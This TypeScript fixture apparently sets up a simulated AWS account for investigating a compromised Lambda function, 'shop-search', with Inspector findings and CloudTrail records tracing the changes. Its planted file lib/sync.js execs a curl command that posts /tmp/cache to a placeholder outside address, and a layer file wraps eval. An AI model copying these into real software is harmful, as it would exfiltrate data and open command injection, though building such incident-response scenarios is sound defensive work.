// The demo account on the day after somebody put foreign code into `shop-search`: another package than the version
// before, a new library, a layer of the account and one of another, a variable and files that hold the remote address,
// findings of Inspector, and who did it.
import { createHash } from 'node:crypto';
import type { Finding as InspectorFinding } from '@aws-sdk/client-inspector2';
import { strToU8, zipSync } from 'fflate';
import { createDemoWorld, demoAccountId } from './demo-account.ts';
import { type AccountState, regionOf, type World } from './world.ts';

export const sceneRegion = 'eu-central-1';
export const sceneFunction = 'shop-search';
export const sceneAddress = '198.51.100.7';
export const ownLayer = `arn:aws:lambda:${sceneRegion}:${demoAccountId}:layer:search-tools:2`;
export const foreignLayer = `arn:aws:lambda:${sceneRegion}:999988887777:layer:metrics:7`;

const zip = (files: Readonly<Record<string, string>>) =>
  zipSync(Object.fromEntries(Object.entries(files).map(([path, text]) => [path, strToU8(text)])), {
    mtime: new Date('2026-01-01T00:00:00Z'),
  });

const handler = `const { run } = require('./lib/sync');

exports.handler = async (event) => {
  const answer = await search(event);
  await run(event);
  return answer;
};
`;

export const deployedHandler = handler;
export const cleanHandler = `exports.handler = async (event) => search(event);\n`;

const older = {
  'index.js': cleanHandler,
  'package.json': '{"name":"shop-search","dependencies":{"tiny-left":"1.2.0"}}\n',
  'node_modules/tiny-left/package.json': '{"name":"tiny-left","version":"1.2.0"}\n',
  'old.js': '// gone since\n',
};
const newer = {
  'index.js': handler,
  'lib/sync.js': `const { exec } = require('child_process');

const host = '${sceneAddress}';

exports.run = (event) => exec('curl -d @/tmp/cache http://' + host + '/' + event.path);
`,
  'package.json': '{"name":"shop-search","dependencies":{"tiny-left":"1.3.0","quick-sync":"0.0.1"}}\n',
  'node_modules/tiny-left/package.json': '{"name":"tiny-left","version":"1.3.0"}\n',
  'node_modules/quick-sync/package.json': '{"name":"quick-sync","version":"0.0.1"}\n',
  'node_modules/quick-sync/index.js': 'module.exports = 0xc6336407;\n',
};

export function createIncidentWorld(now: Date = new Date()): World {
  const world = createDemoWorld(now);
  const account = world.accounts.get(demoAccountId);
  if (account === undefined) throw new Error('the demo world has its account');
  describeFunction(account);
  describeInspector(account, now);
  describeChanges(account, now);
  return world;
}

function describeFunction(account: AccountState): void {
  const { lambda } = regionOf(account, sceneRegion);
  const state = lambda.functions.get(sceneFunction);
  if (state === undefined) throw new Error('the demo account has the function');
  const hash = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('base64');
  const then = zip(older);
  const now = zip(newer);
  const { latest } = state;
  state.versions.push({
    ...latest,
    Version: '1',
    FunctionArn: `${latest.FunctionArn ?? ''}:1`,
    RevisionId: '00000000-0000-4000-8000-000000000001',
    CodeSha256: hash(then),
  });
  state.packages.set('1', then);
  state.packages.set('$LATEST', now);
  Object.assign(latest, {
    CodeSha256: hash(now),
    CodeSize: now.length,
    Layers: [
      { Arn: ownLayer, CodeSize: 500 },
      { Arn: foreignLayer, CodeSize: 500 },
    ],
    Environment: { Variables: { STAGE: 'prod', UPSTREAM: `http://${sceneAddress}/v1` } },
  });
  lambda.layers.set('search-tools', [
    {
      version: {
        LayerVersionArn: ownLayer,
        Version: 2,
        CreatedDate: '2026-11-19T08:00:00.000+0000',
        CompatibleRuntimes: ['nodejs22.x'],
      },
      policy: undefined,
      content: zip({
        'nodejs/tools.js': 'module.exports = (text) => eval(text);\n',
        'nodejs/node_modules/deep-end/package.json': '{"name":"deep-end","version":"4.5.6"}\n',
      }),
    },
  ]);
}

const functionArn = `arn:aws:lambda:${sceneRegion}:${demoAccountId}:function:${sceneFunction}`;

function describeInspector(account: AccountState, now: Date): void {
  const region = regionOf(account, sceneRegion);
  const base = (id: string, title: string): InspectorFinding => ({
    findingArn: `arn:aws:inspector2:${sceneRegion}:${demoAccountId}:finding/${id.repeat(32)}`,
    awsAccountId: demoAccountId,
    type: 'PACKAGE_VULNERABILITY',
    description: title,
    title,
    remediation: { recommendation: { text: 'None Provided' } },
    severity: 'HIGH',
    status: 'ACTIVE',
    firstObservedAt: now,
    lastObservedAt: now,
    resources: [
      {
        type: 'AWS_LAMBDA_FUNCTION',
        id: `${functionArn}:$LATEST`,
        details: {
          awsLambdaFunction: {
            functionName: sceneFunction,
            runtime: 'NODEJS_22_X',
            codeSha256: '',
            version: '$LATEST',
            executionRoleArn: '',
          },
        },
      },
    ],
  });
  region.inspector.findings.push(
    {
      ...base('a', 'CVE-2026-00001 - tiny-left'),
      packageVulnerabilityDetails: {
        vulnerabilityId: 'CVE-2026-00001',
        source: 'NVD',
        vulnerablePackages: [
          {
            name: 'tiny-left',
            version: '1.3.0',
            fixedInVersion: '1.3.4',
            packageManager: 'NODEPKG',
            filePath: 'node_modules/tiny-left/package.json',
          },
        ],
      },
    },
    {
      ...base('b', 'CWE-78 - OS command injection'),
      type: 'CODE_VULNERABILITY',
      severity: 'CRITICAL',
      remediation: { recommendation: { text: 'Pass arguments as a list.' } },
      codeVulnerabilityDetails: {
        cwes: ['CWE-78'],
        detectorId: 'javascript/os-command-injection@v1.0',
        detectorName: 'OS command injection',
        filePath: { fileName: 'sync.js', filePath: 'lib/sync.js', startLine: 5, endLine: 5 },
      },
    },
  );
}

function describeChanges(account: AccountState, now: Date): void {
  const { cloudtrail } = regionOf(account, sceneRegion);
  const record = (
    hoursAgo: number,
    id: number,
    resource: string,
    more: Readonly<Record<string, unknown>>,
  ) => {
    const at = new Date(now.getTime() - hoursAgo * 3_600_000);
    const event = {
      eventVersion: '1.10',
      eventID: `00000000-0000-4000-8000-${String(id).padStart(12, '0')}`,
      eventSource: 'lambda.amazonaws.com',
      eventTime: at.toISOString(),
      awsRegion: sceneRegion,
      sourceIPAddress: '203.0.113.20',
      recipientAccountId: demoAccountId,
      ...more,
    };
    cloudtrail.events.push({
      EventId: event.eventID,
      EventName: String(more['eventName']),
      EventSource: event.eventSource,
      EventTime: at,
      ReadOnly: 'false',
      Resources: [{ ResourceType: 'AWS::Lambda::Function', ResourceName: resource }],
      CloudTrailEvent: JSON.stringify(event),
    });
  };
  const pipeline = {
    type: 'AssumedRole',
    arn: `arn:aws:sts::${demoAccountId}:assumed-role/deploy-pipeline/GitHubActions`,
    accountId: demoAccountId,
  };
  for (const [index, hours] of [500, 400, 300].entries())
    record(hours, 10 + index, sceneFunction, {
      eventName: 'UpdateFunctionCode20150331v2',
      userAgent: 'aws-sdk-js/3.0.0',
      userIdentity: pipeline,
      requestParameters: { functionName: sceneFunction },
    });
  record(29, 20, functionArn, {
    eventName: 'UpdateFunctionConfiguration20150331v2',
    userAgent: 'Mozilla/5.0',
    userIdentity: {
      type: 'IAMUser',
      arn: `arn:aws:iam::${demoAccountId}:user/ci-bot`,
      userName: 'ci-bot',
      accountId: demoAccountId,
    },
    requestParameters: { functionName: functionArn, layers: [ownLayer, foreignLayer] },
  });
  record(48, 21, 'search-tools', {
    eventName: 'PublishLayerVersion20181031',
    userAgent: 'aws-cli/2.30',
    userIdentity: {
      type: 'IAMUser',
      arn: `arn:aws:iam::${demoAccountId}:user/ci-bot`,
      userName: 'ci-bot',
      accountId: demoAccountId,
    },
    requestParameters: { layerName: 'search-tools' },
  });
}
